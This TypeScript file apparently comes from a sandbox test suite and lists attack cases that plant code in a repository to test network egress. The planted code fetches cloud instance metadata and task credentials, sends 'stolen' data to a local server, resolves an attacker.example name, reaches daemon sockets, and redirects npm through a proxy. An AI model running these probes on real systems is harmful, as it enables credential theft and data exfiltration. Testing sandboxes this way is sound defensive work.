import { appOf, type RepositoryAttack } from '../attack.ts';

const aim = 'reach the network';

function ask(url: string, options = '{}'): Record<string, string> {
  return appOf(`
    let seen; try { const answer = await fetch('${url}', { signal: AbortSignal.timeout(3000), ...${options} }); seen = await answer.text(); }
    catch (error) { seen = 'no: ' + (error.cause?.code ?? error.name); }
    say(seen);`);
}

export const reachTheNetwork: readonly RepositoryAttack[] = [
  {
    name: 'the credentials of the instance (169.254.169.254)',
    aim,
    control: true,
    sample: true,
    files: () => ask('http://169.254.169.254/latest/meta-data/iam/security-credentials/role'),
  },
  {
    name: 'a session token of the instance (IMDSv2)',
    aim,
    control: true,
    files: () => ask('http://169.254.169.254/latest/api/token', `{ method: 'PUT' }`),
  },
  {
    name: 'the credentials of the task (169.254.170.2)',
    aim,
    control: true,
    files: () => ask('http://169.254.170.2/v2/credentials/x'),
  },
  {
    name: 'the credentials of the instance over IPv6 (fd00:ec2::254)',
    aim,
    control: true,
    files: () => ask('http://[fd00:ec2::254]/latest/meta-data/'),
  },
  {
    name: 'a server of its own over TCP',
    aim,
    control: true,
    sample: true,
    files: ({ port }) => ask(`http://127.0.0.1:${port}/?stolen=1`),
  },
  {
    name: 'names of a zone of its own, asked by DNS',
    aim,
    control: true,
    files: () =>
      appOf(`import { Resolver } from 'node:dns/promises';
        const resolver = new Resolver({ timeout: 1000, tries: 1 }); resolver.setServers(['127.0.0.1']);
        let seen; try { seen = await resolver.resolve4('stolen.attacker.example'); } catch (error) { seen = 'no: ' + error.code; }
        say(seen);`),
  },
  {
    name: 'names asked of the resolver of the machine',
    aim,
    files: () =>
      appOf(`import { lookup } from 'node:dns/promises';
        let seen; try { seen = await Promise.race([lookup('stolen.attacker.example'), new Promise((_, no) => setTimeout(() => no({ code: 'TIME' }), 3000))]); } catch (error) { seen = 'no: ' + error.code; }
        say(seen); process.exit(0);`),
  },
  {
    name: 'a packet over UDP',
    aim,
    control: true,
    files: ({ port }) =>
      appOf(`import { createSocket } from 'node:dgram';
        const socket = createSocket('udp4');
        const seen = await new Promise((done) => { socket.once('error', (error) => done('no: ' + error.code)); socket.send('stolen', ${port}, '127.0.0.1', (error) => done(error === null ? 'sent' : 'no: ' + error?.code)); });
        socket.close(); say(seen);`),
  },
  {
    name: 'the socket of a daemon of the machine',
    aim,
    control: true,
    files: ({ socket }) =>
      appOf(`import { connect } from 'node:net';
        const seen = await new Promise((done) => { const it = connect('${socket}'); it.once('connect', () => { it.end('stolen'); done('connected'); }); it.once('error', (error) => done('no: ' + error.code)); });
        say(seen);`),
  },
  {
    name: 'an abstract socket of the machine',
    aim,
    control: true,
    files: ({ socket }) =>
      appOf(`import { connect } from 'node:net';
        const seen = await new Promise((done) => { const it = connect('\\0${socket}'); it.once('connect', () => { it.end('stolen'); done('connected'); }); it.once('error', (error) => done('no: ' + error.code)); });
        say(seen);`),
  },
  {
    name: 'a proxy that a variable or an .npmrc names',
    aim,
    files: ({ port }) => ({
      ...ask(`http://127.0.0.1:${port}/`),
      '.npmrc': `proxy=http://127.0.0.1:${port}/\nhttps-proxy=http://127.0.0.1:${port}/\nregistry=http://127.0.0.1:${port}/\n`,
      '.env': `HTTP_PROXY=http://127.0.0.1:${port}/`,
    }),
  },
];
